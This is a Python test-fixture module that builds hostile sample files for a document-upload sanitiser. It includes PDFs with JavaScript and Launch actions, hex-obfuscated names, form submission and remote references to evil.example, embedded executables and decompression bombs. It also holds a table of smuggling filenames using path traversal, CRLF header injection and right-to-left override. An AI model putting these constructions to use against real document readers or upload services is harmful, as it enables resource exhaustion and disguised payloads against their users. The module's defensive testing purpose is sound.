"""Files that people and attackers send: builders of real ones, each small and quick to make."""

import zlib
from collections.abc import Mapping
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.files import (
    A4,
    assembled,
    make_image,
    make_pdf,
    opened,
    png_file,
    saved,
    stream,
    zipped,
    zipped_zeros,
)

PAGE = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
)
SCRIPT = b"<< /S /J#61v#61Script /#4aS (app.alert\\(1\\)) >>"


# --- PDF files that do something -----------------------------------------------------------------
def with_javascript() -> bytes:
    return _with_open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def with_javascript_in_hexadecimal() -> bytes:
    return assembled([b"<< /Type /Catalog /Pages 2 0 R /#4fpen#41ction 4 0 R >>", *PAGE, SCRIPT])


def with_javascript_in_names() -> bytes:
    pdf = opened()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    return saved(pdf)


def with_javascript_in_compressed_objects() -> bytes:
    with pikepdf.open(BytesIO(with_javascript())) as pdf:
        return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_javascript_in_a_field() -> bytes:
    pdf = opened()
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    widget = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=[0, 0, 9, 9], A=action
    )
    field = pdf.make_indirect(widget)
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def with_launch() -> bytes:
    return _with_open_action(Dictionary(S=Name.Launch, F=String("cmd.exe")))


def with_submit() -> bytes:
    return _with_open_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def with_remote_place() -> bytes:
    return _with_open_action(
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0, Name.Fit]))
    )


def with_opening_of_a_website() -> bytes:
    return _with_open_action(Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def with_additional_action() -> bytes:
    pdf = opened()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))
    return saved(pdf)


def with_movie() -> bytes:
    pdf = opened()
    movie = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].Annots = Array([pdf.make_indirect(movie)])
    return saved(pdf)


def with_dynamic_form() -> bytes:
    pdf = opened()
    form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)
    return saved(pdf)


def with_attachment(content: bytes = b"MZ") -> bytes:
    pdf = opened()
    pdf.attachments["a.exe"] = content
    return saved(pdf)


def with_attached_annotation() -> bytes:
    pdf = opened()
    file = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    return saved(pdf)


def with_content_elsewhere() -> bytes:
    pdf = opened()
    pdf.pages[0].Contents = Stream(pdf, b"", F=String("/etc/passwd"))
    return saved(pdf)


# --- PDF files that cost something ---------------------------------------------------------------
def bomb_of_objects() -> bytes:
    """Return 200 KB whose object stream unfolds to 200 MB."""
    packed = zipped_zeros(200)
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /More 5 0 R >>",
            *PAGE,
            stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
        ],
        compressed=True,
    )


def bomb_of_content() -> bytes:
    """Return 200 KB whose page content unfolds to 200 MB."""
    packed = zipped_zeros(200)
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            stream(packed, b"/Filter /FlateDecode"),
        ]
    )


def loop_of_pages() -> bytes:
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def tree_of_a_billion_pages() -> bytes:
    """Return ten levels of page nodes, each ten times the same child."""
    levels = 10
    nodes = [
        b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"%d 0 R " % (number + 1) * 10)
        for number in range(2, 2 + levels)
    ]
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def deep_nest() -> bytes:
    nest = b"[" * 100_000 + b"]" * 100_000
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>",
            *PAGE,
            nest,
        ]
    )


# --- Pages that cost something or cannot be drawn ------------------------------------------------
def with_page_as_large_as_a_county(pdf: pikepdf.Pdf) -> None:
    page = _page(pdf, b"0 0 m 9e8 9e8 l S")
    page.MediaBox = Array([0, 0, 10**9, 10**9])


def with_picture_that_unfolds(pdf: pikepdf.Pdf) -> None:
    """Add a page with a picture of 60,000 × 60,000 points in a tenth of a megabyte."""
    _with_picture(pdf, zipped_zeros(450), 60_000, depth=1)


def with_picture_of_nothing(pdf: pikepdf.Pdf) -> None:
    _with_picture(pdf, b"no picture", 1000, depth=8)


def with_broken_photo(pdf: pikepdf.Pdf) -> None:
    broken = b"\xff\xd8\xffno photo"
    _with_picture(pdf, broken, 1000, kind=Name.DCTDecode, depth=8)


def with_endless_drawing(pdf: pikepdf.Pdf) -> None:
    """Add a page whose drawing unfolds from half a megabyte to 230."""
    strokes = b"0 0 m 595 842 l S 595 0 m 0 842 l S\n" * 30_000
    unfolding = zlib.compressobj()
    packed = b"".join(unfolding.compress(strokes) for _ in range(215)) + unfolding.flush()
    page = _page(pdf, b"")
    page.Contents.write(packed, filter=Name.FlateDecode)


def with_drawing_of_itself(pdf: pikepdf.Pdf) -> None:
    drawing = _drawing(pdf, b"/F Do /F Do")
    drawing.Resources.XObject = Dictionary(F=drawing)
    _page(pdf, b"/F Do", F=drawing)


def with_a_billion_drawings(pdf: pikepdf.Pdf) -> None:
    """Add a page with ten levels of drawings, each ten times the next."""
    drawing = _drawing(pdf, b"0 0 m 595 842 l S")
    for _ in range(10):
        drawing = _drawing(pdf, b"/F Do " * 10, F=drawing)
    _page(pdf, b"/F Do", F=drawing)


def with_drawings_in_drawings(pdf: pikepdf.Pdf) -> None:
    drawing = _drawing(pdf, b"0 0 m 595 842 l S")
    for _ in range(5000):
        drawing = _drawing(pdf, b"/F Do", F=drawing)
    _page(pdf, b"/F Do", F=drawing)


HOSTILE_PAGES = (
    with_page_as_large_as_a_county,
    with_picture_that_unfolds,
    with_picture_of_nothing,
    with_broken_photo,
    with_endless_drawing,
    with_drawing_of_itself,
    with_a_billion_drawings,
    with_drawings_in_drawings,
)


# --- Files that are not what they claim ----------------------------------------------------------
def encrypted() -> bytes:
    return _locked(pikepdf.Encryption(owner="x", user="geheim"))


def protected_from_editing() -> bytes:
    return _locked(pikepdf.Encryption(owner="x", user=""))


def cut_in_half() -> bytes:
    whole = make_pdf(pages=20)
    return whole[: len(whole) // 2]


def without_pages() -> bytes:
    return saved(pikepdf.new())


def without_body() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


def pdf_behind_html() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + make_pdf()


def zip_behind_pdf() -> bytes:
    return make_pdf() + zipped()


def web_page() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


def vector_image() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def program() -> bytes:
    return b"MZ\x90\x00" + bytes(600)


def virus_test() -> bytes:
    return rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def moving_picture() -> bytes:
    return make_image("GIF", mode="L")


def word_document() -> bytes:
    return zipped(b"word/document.xml")


def huge_image() -> bytes:
    """Return a PNG of 60,000 × 60,000 points in some hundred bytes."""
    return png_file(60_000, 60_000, b"")


def tall_image() -> bytes:
    """Return a PNG one point wide whose data would unfold far beyond its size."""
    return png_file(1, 1, zipped_zeros(256))


def broken_image() -> bytes:
    return make_image("PNG")[:-30]


def broken_photo() -> bytes:
    whole = make_image("JPEG", size=(800, 800))
    return whole[: len(whole) // 2]


def photo_named_as_another() -> bytes:
    return b"\xff\xd8\xff\xe0" + make_image("PNG")


NAMES: dict[str, str] = {
    "../../etc/passwd": "passwd.pdf",
    "/etc/shadow.pdf": "shadow.pdf",
    "C:\\Windows\\system32\\vereinbarung.pdf": "vereinbarung.pdf",
    "..\\..\\a.pdf": "a.pdf",
    ".htaccess": "htaccess.pdf",
    "scan.pdf.exe": "scan.pdf",
    "a\r\nSet-Cookie: x=y.pdf": "aSet-Cookie_ x=y.pdf",
    'a"; filename="b.exe.pdf': "a__ filename=_b.exe.pdf",
    "a\x00.pdf": "a.pdf",
    "vereinbarung\u202efdp.exe": "vereinbarungfdp.pdf",
    "ver\u200beinbarung.pdf": "vereinbarung.pdf",
    "=1+1.pdf": "1+1.pdf",
    "@SUM(A1).pdf": "SUM(A1).pdf",
    "CON.pdf": "Dokument.pdf",
    "": "Dokument.pdf",
    "...": "Dokument.pdf",
    "   .pdf": "Dokument.pdf",
    "\ud800.pdf": "Dokument.pdf",
    "🏫 Schule.pdf": "🏫 Schule.pdf",
    "Grundschule am Mu\u0308nsterplatz.pdf": "Grundschule am Münsterplatz.pdf",
    "Vereinbarung vom 12. Mai 2026": "Vereinbarung vom 12. Mai 2026.pdf",
}


def _page(pdf: pikepdf.Pdf, content: bytes, **drawings: pikepdf.Object) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=A4)
    page.Resources = Dictionary(XObject=Dictionary(_named(drawings)))
    page.Contents = pdf.make_stream(content)
    return page


def _named(drawings: Mapping[str, pikepdf.Object]) -> dict[str, pikepdf.Object]:
    return {f"/{name}": drawing for name, drawing in drawings.items()}


def _with_picture(
    pdf: pikepdf.Pdf, packed: bytes, side: int, *, kind: Name = Name.FlateDecode, depth: int
) -> None:
    """Add a page with a square picture of so many points a side; it says that it is packed."""
    picture = pdf.make_stream(b"")
    picture.write(packed, filter=kind)
    named = {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceGray}
    for name, value in (named | {"Width": side, "Height": side, "BitsPerComponent": depth}).items():
        picture[f"/{name}"] = value
    _page(pdf, b"595 0 0 842 0 0 cm /Scan Do", Scan=picture)


def _drawing(pdf: pikepdf.Pdf, content: bytes, **drawings: pikepdf.Object) -> pikepdf.Object:
    return pdf.make_stream(
        content,
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, *A4]),
        Resources=Dictionary(XObject=Dictionary(_named(drawings))),
    )


def _locked(lock: pikepdf.Encryption) -> bytes:
    out = BytesIO()
    opened().save(out, encryption=lock)
    return out.getvalue()


def _with_open_action(action: Dictionary) -> bytes:
    pdf = opened()
    pdf.Root.OpenAction = pdf.make_indirect(action)
    return saved(pdf)
